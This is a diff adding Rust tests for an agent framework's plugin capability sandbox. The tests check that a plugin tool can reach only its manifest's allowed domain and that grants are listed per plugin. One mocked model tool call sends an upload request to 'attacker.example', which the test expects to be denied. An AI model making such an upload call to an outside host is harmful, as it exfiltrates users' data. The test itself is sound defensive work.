@@ -0,0 +1,145 @@
+use std::sync::Arc;
+
+use distri_types::integration::Integration;
+use distri_types::{AgentEventType, Part, PluginCapabilities, Tool, ToolCall, ToolContext};
+use serde_json::{json, Value};
+
+use crate::testing::{AgentTestHarness, MockLlmProvider};
+use crate::types::StandardDefinition;
+
+#[derive(Debug)]
+struct FetchTool;
+
+#[async_trait::async_trait]
+impl Tool for FetchTool {
+    fn get_name(&self) -> String {
+        "acme_fetch".to_string()
+    }
+
+    fn get_description(&self) -> String {
+        "Fetch a URL".to_string()
+    }
+
+    fn get_parameters(&self) -> Value {
+        json!({ "type": "object" })
+    }
+
+    async fn execute(
+        &self,
+        tool_call: ToolCall,
+        context: Arc<ToolContext>,
+    ) -> Result<Vec<Part>, anyhow::Error> {
+        let url = tool_call.input["url"].as_str().unwrap_or_default();
+        context.check_network(url)?;
+        Ok(vec![Part::Text(format!("fetched {}", url))])
+    }
+}
+
+#[derive(Debug)]
+struct AcmePlugin;
+
+impl Integration for AcmePlugin {
+    fn get_name(&self) -> String {
+        "acme".to_string()
+    }
+
+    fn get_description(&self) -> String {
+        "ACME API".to_string()
+    }
+
+    fn get_tools(&self) -> Vec<Arc<dyn Tool>> {
+        vec![Arc::new(FetchTool)]
+    }
+
+    fn get_capabilities(&self) -> PluginCapabilities {
+        PluginCapabilities {
+            network: vec!["*.acme.com".to_string()],
+            ..Default::default()
+        }
+    }
+}
+
+fn agent() -> StandardDefinition {
+    StandardDefinition {
+        name: "acme_agent".to_string(),
+        description: "uses the acme plugin".to_string(),
+        ..Default::default()
+    }
+}
+
+#[tokio::test]
+async fn plugin_tools_are_limited_to_their_manifest() {
+    let llm = MockLlmProvider::new()
+        .respond_tool_call(
+            "acme_fetch",
+            json!({ "url": "https://api.acme.com/v1/orders" }),
+        )
+        .respond_tool_call(
+            "acme_fetch",
+            json!({ "url": "https://attacker.example/upload" }),
+        )
+        .respond_final("done");
+    let harness = AgentTestHarness::new(llm.clone()).await.unwrap();
+    harness.register_agent(agent()).await.unwrap();
+    harness
+        .orchestrator
+        .register_integration("acme_agent", &AcmePlugin)
+        .await;
+
+    let run = harness.run("acme_agent", "Fetch the orders").await;
+
+    run.assert_success();
+    let results: Vec<Vec<Part>> = run
+        .events
+        .iter()
+        .filter_map(|e| match &e.event {
+            AgentEventType::ToolResults { results, .. } => Some(results),
+            _ => None,
+        })
+        .flatten()
+        .map(|r| r.parts.clone())
+        .collect();
+    assert_eq!(
+        results[0],
+        vec![Part::Text(
+            "fetched https://api.acme.com/v1/orders".to_string()
+        )]
+    );
+    let [Part::Data(denied)] = results[1].as_slice() else {
+        panic!("expected a structured denial, got {:?}", results[1]);
+    };
+    assert_eq!(denied["error"], "capability_denied");
+    assert_eq!(denied["plugin"], "acme");
+    assert_eq!(denied["capability"], "network");
+    assert_eq!(denied["target"], "https://attacker.example/upload");
+}
+
+#[tokio::test]
+async fn granted_capabilities_are_listed_per_plugin() {
+    let harness = AgentTestHarness::new(MockLlmProvider::new()).await.unwrap();
+    harness
+        .orchestrator
+        .register_integration("acme_agent", &AcmePlugin)
+        .await;
+    // A plugin tool without a manifest is granted nothing.
+    harness
+        .orchestrator
+        .register_tool(
+            "other_agent",
+            Arc::new(distri_types::integration::IntegrationTool::new(
+                Arc::new(FetchTool),
+                "bare".to_string(),
+            )),
+        )
+        .await;
+
+    let grants = harness.orchestrator.plugin_grants().await;
+
+    assert_eq!(grants.len(), 2);
+    assert_eq!(grants[0].plugin, "acme");
+    assert_eq!(grants[0].agents, vec!["acme_agent"]);
+    assert_eq!(grants[0].tools, vec!["acme_fetch"]);
+    assert_eq!(grants[0].capabilities.network, vec!["*.acme.com"]);
+    assert_eq!(grants[1].plugin, "bare");
+    assert_eq!(grants[1].capabilities, PluginCapabilities::default());
+}